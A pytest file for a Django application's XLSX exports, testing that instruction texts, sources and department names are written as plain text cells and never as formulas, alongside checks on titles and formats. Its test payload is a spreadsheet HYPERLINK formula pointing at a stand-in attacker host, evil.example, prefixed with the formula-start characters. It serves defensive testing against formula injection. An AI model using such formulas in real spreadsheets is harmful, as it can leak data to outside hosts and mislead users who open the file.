"""Issue #11 point 5: every control export writes user text as text, never as a formula.

An instruction's text, its source and a department's name starting with "=", "+", "-", "@", a tab or a
carriage return is read back from the XLSX as a string cell holding the same text (a carriage return
comes back as a line feed: XML's end-of-line rule, see akimat/exports.py); dates stay dates.
"""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from akimat.models import OrgUnit
from control import reports
from control.models import ControlItem
from tests.control.conftest import clock, make_item, mon_2026_03_16, thu_2026_03_19  # noqa: F401 - fixtures
from tests.spreadsheets import read_back, table_cells

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def payload(start: str, what: str) -> str:
    return f'{start}HYPERLINK("https://evil.example/?{what}","open")'


def put_as_typed(item: ControlItem, **texts: str) -> None:
    """The texts stored exactly (the services trim what a form sends; an import or the admin may not)."""
    ControlItem.objects.filter(pk=item.pk).update(**texts)


def by_header(sheet: Worksheet, text: str) -> dict[str, Cell]:
    """The cells of the first row whose cells hold `text` (as read back), keyed by the header row."""
    rows = table_cells(sheet)
    headers = [cell.value for cell in rows[0]]
    row = next(row for row in rows[1:] if any(cell.value == read_back(text) for cell in row))
    return dict(zip(headers, row, strict=True))


def assert_text(cell: Cell, text: str) -> None:
    assert cell.data_type == "s", (cell.coordinate, cell.data_type, cell.value)
    assert cell.value == read_back(text)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_issue11_p5_the_control_list_export_writes_an_instructions_text_as_text(client, registrar, make_item, start):  # noqa: F811
    text, source = payload(start, "text"), payload(start, "source")
    put_as_typed(make_item(), text=text, source_label=source)
    client.force_login(registrar)

    response = client.get(reverse("control:export"), {"scope": "all"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    row = by_header(sheet, text)
    assert_text(row["Content"], text)
    assert_text(row["Source document"], source)
    assert row["Deadline"].is_date and row["Deadline"].value == datetime.datetime(2026, 4, 13)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_issue11_p5_the_weekly_control_list_xlsx_writes_an_instructions_text_as_text(make_item, start):  # noqa: F811
    text, event = payload(start, "text"), payload(start, "event")
    put_as_typed(make_item(received_on=mon_2026_03_16), text=text, event=event)

    export = reports.export_weekly_list(reports.Week(mon_2026_03_16), "xlsx", language="en")

    row = by_header(load_workbook(io.BytesIO(export.content)).active, text)
    assert_text(row["Content of the instruction"], text)
    assert_text(row["Kind of event where the instruction was given"], event)
    assert row["Date given"].is_date


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_issue11_p5_the_quarterly_report_xlsx_writes_texts_and_names_as_text(org, make_item, start):  # noqa: F811
    text, department = payload(start, "text"), payload(start, "department")
    OrgUnit.objects.filter(pk=org.finance.pk).update(name_en=department)
    put_as_typed(make_item(received_on=mon_2026_03_16, deadline=thu_2026_03_19), text=text)

    export = reports.export_quarterly_report(
        reports.Quarter(2026, 1), "xlsx", language="en", today=datetime.date(2026, 4, 15)
    )

    workbook = load_workbook(io.BytesIO(export.content))
    overdue = by_header(workbook["Overdue instructions"], text)
    assert_text(overdue["Content of the instruction"], text)
    assert_text(overdue["Department"], department)
    assert overdue["Deadline"].is_date
    assert_text(by_header(workbook["By department"], department)["Department"], department)
    counts = by_header(workbook["By department"], department)
    assert counts["Received"].data_type == "n" and counts["Received"].value == 1  # numbers stay numbers


def test_issue12_p6_the_control_list_xlsx_is_titled_with_the_apparatus_and_the_period(
    client,
    registrar,
    org,
    make_item,  # noqa: F811
):
    make_item()
    client.force_login(registrar)

    response = client.get(reverse("control:export"), {"scope": "all", "received_from": "2026-03-01"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet["A1"].value == org.apparatus.name_en
    assert sheet["A2"].value.endswith("from 01.03.2026")
    assert sheet.auto_filter.ref.startswith("A4:")
    assert sheet.print_title_rows == "$4:$4"


def test_issue12_p6_the_quarterly_xlsx_states_the_apparatus_the_quarter_and_the_date_and_shares_in_percent(
    org,
    make_item,  # noqa: F811
    clock,  # noqa: F811
):
    make_item(received_on=mon_2026_03_16)
    clock(datetime.date(2026, 4, 10))

    export = reports.export_quarterly_report(reports.Quarter(2026, 1), "xlsx", language="ru")

    workbook = load_workbook(io.BytesIO(export.content))
    for sheet in workbook.worksheets:
        assert sheet["A1"].value == org.apparatus.name_ru
        assert "01.01.2026" in sheet["A2"].value and "31.03.2026" in sheet["A2"].value
        assert sheet.auto_filter.ref and sheet.page_setup.orientation == "landscape"
    by_issuer = workbook.worksheets[0]
    total = list(by_issuer.iter_rows())[-1]
    assert total[-1].data_type == "n" and total[-1].number_format.endswith("%")
